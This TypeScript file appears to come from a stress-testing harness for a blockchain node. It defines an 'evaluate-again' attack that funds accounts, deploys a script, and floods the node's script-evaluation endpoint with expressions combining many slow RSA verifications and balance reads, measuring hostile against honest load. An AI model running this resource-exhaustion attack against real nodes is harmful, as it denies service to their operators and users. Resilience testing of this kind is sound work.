/**
 * Expressions that compute much and then read balances one after the other: each missing row restarts the evaluation.
 */
import { addressText } from "../../src/crypto/address.ts";
import { encodeBase64 } from "../../src/crypto/base64.ts";
import type { MassTransferTransaction } from "../../src/protocol/transactions/transaction.ts";
import { TransactionType } from "../../src/protocol/transactions/transaction-type.ts";
import { compileRide, directives } from "../chain-generator/ride/compile-ride.ts";
import type { Attack } from "./attack.ts";
import { requestLoad, resultName, totalCount } from "./request-load.ts";
import { slowSignature } from "./slow-signatures.ts";

const SIGNATURES = 43;
const READS = 25;
const TRANSFERS = 100;

export const evaluateAgain: Attack = {
  name: "evaluate-again",
  about: "evaluations that compute, read a row, compute again",
  prepare: async (node, random) => {
    const owner = node.newKey();
    const accounts = [owner, ...Array.from({ length: TRANSFERS - 1 }, () => node.newKey())].map((key) =>
      node.addressOf(key),
    );
    await node.confirm(
      node.signed<MassTransferTransaction>(node.rich, {
        ...{
          type: TransactionType.MassTransfer,
          version: 2,
          asset: null,
          feeAsset: null,
          attachment: new Uint8Array(),
        },
        transfers: accounts.map((address) => ({ recipient: { kind: "address", address }, amount: 20_000_000n })),
        ...{ fee: 100_000n + 50_000n * BigInt(TRANSFERS), timestamp: BigInt(Date.now()) },
      }),
    );
    const script = compileRide(`${directives(6, "DAPP", "ACCOUNT")}\n@Callable(i)\nfunc call() = []\n`);
    await node.confirm(
      node.signed(owner, {
        ...{ type: TransactionType.SetScript, version: 2, feeAsset: null, script },
        ...{ fee: 10_000_000n, timestamp: BigInt(Date.now()) },
      }),
    );
    const { publicKey, signature } = slowSignature(random);
    const base64 = (bytes: Uint8Array) => `base64'${encodeBase64(bytes)}'`;
    const dear = Array.from({ length: SIGNATURES }, (_, at) => `rsaVerify(SHA256, toBytes(${at}), s, k)`).join(" || ");
    const expression = (reads: number, number: number): string => {
      let result = String(number);
      for (let read = 0; read < reads; read++) {
        const account = addressText(random.pick(accounts));
        result = `if (wavesBalance(Address(base58'${account}')).available > 0) then ${result} else 0`;
      }
      return `let k = ${base64(publicKey)}\nlet s = ${base64(signature)}\nstrict x = ${dear}\n${result}`;
    };
    const path = `/utils/script/evaluate/${addressText(node.addressOf(owner))}`;
    const load = (reads: number, isOwner: boolean, most?: number) =>
      requestLoad(async (number, signal) => {
        const body = JSON.stringify({ expr: expression(reads, number) });
        const { status, text } = await node.post(path, body, { isOwner, signal });
        return resultName(status, text);
      }, most);
    return { hostile: load(READS, false), honest: (outcomes) => load(0, true, totalCount(outcomes)) };
  },
};
